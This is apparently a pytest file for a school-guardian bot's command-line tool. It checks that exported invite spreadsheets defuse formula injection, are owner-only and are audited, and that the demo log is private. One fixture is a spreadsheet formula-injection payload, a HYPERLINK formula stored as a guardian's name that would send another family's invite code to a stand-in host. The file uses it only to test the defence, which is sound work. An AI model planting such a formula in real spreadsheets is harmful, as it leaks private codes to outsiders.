"""Files the ``guanai`` commands write: the invite sheet and the demo's log, as an admin makes them and finds them."""

from __future__ import annotations

import io
import sys
import zipfile

import openpyxl
from sqlalchemy import func, select

from bot.cli import main
from bot.store.models import AuditEntry, Invite, Person

FORMULA_NAME = '=HYPERLINK("http://x.example/?c="&E4,"点我")'


def test_the_invite_sheet_is_private_defused_and_audited(cli_db, tmp_path, capsys):
    """A guardian's name that would be a live formula next to the others' codes is text; the file is the owner's."""
    uows, school = cli_db
    with uows() as uow:  # a name stored before chat corrections were checked (or edited in the database)
        uow.session.get(Person, school.guardian_a).name = FORMULA_NAME
        uow.commit()
    sheet = tmp_path / "inv.xlsx"
    sheet.write_bytes(b"")
    sheet.chmod(0o644)  # an older sheet of the same name: replaced, and narrowed
    assert main(["invite", "--class", "三年级1班", "--school", "测试小学", "--sheet", str(sheet)]) == 0
    assert f"{sheet}" in capsys.readouterr().out
    assert sheet.stat().st_mode & 0o777 == 0o600
    with zipfile.ZipFile(sheet) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere: the name is text, shown with its '
    assert "<t>'=HYPERLINK(" in xml
    ws = openpyxl.load_workbook(sheet)["邀请码"]
    names = [r[0] for r in ws.iter_rows(min_row=3, values_only=True)]
    assert "'" + FORMULA_NAME in names
    # Every text cell a string, never a formula; 有效期至 (column G) a real date (issue 9)
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row
               if c.value is not None and not (c.column == 7 and c.row > 2))
    assert all(c.is_date for (c,) in ws.iter_rows(min_row=3, min_col=7, max_col=7))
    with uows() as uow:
        entries = uow.session.execute(select(AuditEntry.action, AuditEntry.child_id, AuditEntry.channel,
                                             AuditEntry.detail)).all()
    # One entry per child the sheet names (张三 for her guardian and father, 王 五 for a pairing), none for others.
    assert {(a, c, ch) for a, c, ch, _ in entries} == {("export", school.zs_a, "cli"), ("export", school.wang, "cli")}
    assert all(d == {"kind": "invite_sheet"} for *_, d in entries)


def test_an_invite_sheet_named_csv_is_refused_before_any_invite_is_made(cli_db, tmp_path, capsys):
    uows, _school = cli_db
    assert main(["invite", "--class", "三年级1班", "--school", "测试小学", "--sheet", str(tmp_path / "inv.csv")]) == 1
    assert "本程序只生成 Excel 工作簿（.xlsx），不生成 .csv 文件" in capsys.readouterr().err
    assert not (tmp_path / "inv.csv").exists()
    with uows() as uow:
        assert uow.session.scalar(select(func.count()).select_from(Invite)) == 0


def test_the_demo_log_is_the_owners_only(monkeypatch, tmp_path, sample_roster):
    monkeypatch.chdir(tmp_path)
    log = tmp_path / "guanai-demo.log"
    log.write_text("an older run\n")
    log.chmod(0o644)
    monkeypatch.setattr(sys, "stdin", io.StringIO("/help\n/quit\n"))
    monkeypatch.setattr(sys, "stdout", io.StringIO())
    assert main(["demo", "--roster", str(sample_roster), "--at", "2026-12-04 17:58"]) == 0
    assert log.stat().st_mode & 0o777 == 0o600
    assert log.read_text().startswith("an older run\n")  # appended to, as before
    log.unlink()
    monkeypatch.setattr(sys, "stdin", io.StringIO("/quit\n"))
    assert main(["demo", "--roster", str(sample_roster), "--at", "2026-12-04 17:58"]) == 0
    assert not log.exists() or log.stat().st_mode & 0o777 == 0o600
